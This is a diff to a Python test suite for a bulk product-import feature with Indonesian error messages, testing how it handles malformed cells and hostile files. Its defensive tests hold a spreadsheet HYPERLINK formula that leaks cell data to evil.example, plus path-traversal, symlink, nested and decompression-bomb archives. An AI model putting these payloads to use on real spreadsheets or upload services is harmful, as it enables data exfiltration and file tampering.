@@ -3,6 +3,7 @@ the import, re-imports, photos, and every hostile file refused. Files are made h
 openpyxl, Pillow)."""
 from __future__ import annotations
 
+import csv
 import io
 import json
 import os
@@ -73,8 +74,8 @@ def test_the_preview_names_row_column_and_what_to_write_for_every_bad_cell(app, 
     assert [row.number for row in plan.rows] == [2, 3, 4, 5, 6, 7]
     ok, price, name, category, status_and_cents, zero = plan.rows
     assert ok.ok and ok.price == 15000 and ok.category_name == "Makanan Ringan" and ok.status == "published"
-    assert price.errors == ["Baris 3, kolom harga: “15.5x” bukan harga; Tulis jumlah dalam Rupiah, misalnya 15000, "
-                            "15.000, Rp15.000, 15rb atau 1,5jt."]
+    assert price.errors == ["Baris 3, kolom harga: “15.5x” bukan harga. Tulis jumlah dalam Rupiah, mis. 15000, "
+                            "15.000, Rp15.000, 15rb, atau 1,5jt."]
     assert name.errors == ["Baris 4, kolom nama: tulis nama produk."]
     assert category.errors[0].startswith("Baris 5, kolom kategori: tidak ada kategori “Minuman Keras”; tulis salah "
                                          "satu dari: Makanan Ringan")
@@ -170,8 +171,9 @@ def test_another_members_product_of_the_same_name_is_not_touched(app, make_membe
 def test_formula_cells_are_kept_as_the_text_typed(app, make_member):
     member = make_member()
     formula = '=HYPERLINK("http://evil.example/?d="&A2;"Klik")'
-    sheet = ImportFile("produk.csv", io.BytesIO(
-        f'nama;harga;deskripsi\n"{formula}";15000;"=1+1"\n'.encode("utf-8-sig")))  # Excel in Indonesia: ';'
+    out = io.StringIO()
+    csv.writer(out, delimiter=";").writerows([["nama", "harga", "deskripsi"], [formula, "15000", "=1+1"]])
+    sheet = ImportFile("produk.csv", io.BytesIO(out.getvalue().encode("utf-8-sig")))  # Excel in Indonesia: ';'
     bulk_import.confirm_import(member.user, start(member, sheet), new_key())
     [product] = products_of(member)
     assert (product.name, product.description) == (formula, "=1+1")
@@ -226,8 +228,8 @@ def test_a_photo_the_pipeline_refuses_is_an_error_of_its_row_only(app, make_memb
                                     "Hilang,15000,,,,,tidak-ada.jpg,"), zip_file(photos))
     good, text, bomb, big, missing = plan.rows
     assert good.ok and len(good.photos) == 1
-    assert text.errors == ["Baris 3, kolom foto: teks.jpg: bukan gambar JPEG, PNG, atau WebP."]
-    assert bomb.errors[0].startswith("Baris 4, kolom foto: bom.png: gambar terlalu besar")
+    assert text.errors == ["Baris 3, kolom foto: teks.jpg: bukan file gambar JPEG, PNG, atau WebP."]
+    assert bomb.errors[0].startswith("Baris 4, kolom foto: bom.png: ukuran gambar terlalu besar")
     assert big.errors == ["Baris 5, kolom foto: besar.jpg: berkas terlalu besar; batasnya 2 MB."]
     assert missing.errors == ["Baris 6, kolom foto: “tidak-ada.jpg” tidak ada di ZIP foto; periksa nama berkasnya."]
 
@@ -273,7 +275,7 @@ HOSTILE_ARCHIVES = {
     "absolute name": (lambda: zip_file({"/etc/foto.jpg": jpeg_bytes()}), "keluar dari folder"),
     "windows name": (lambda: zip_file({"..\\foto.jpg": jpeg_bytes()}), "keluar dari folder"),
     "symlink": (lambda: _raw_zip(_symlink), "tautan"),
-    "10,000 entries": (lambda: _raw_zip(_many), "terlalu banyak berkas (10000)"),
+    "10,000 entries": (lambda: _raw_zip(_many), r"terlalu banyak berkas \(10000\)"),
     "nested by name": (lambda: zip_file({"lagi.zip": b"PK\x05\x06" + bytes(18)}), "arsip lain"),
     "nested by content": (lambda: zip_file({"foto.jpg": zip_file({"a.jpg": b"x"}).stream.getvalue()}), "arsip lain"),
     "not a zip": (lambda: ImportFile("foto.zip", io.BytesIO(b"Ini bukan ZIP\n" * 100)), "bukan berkas ZIP"),
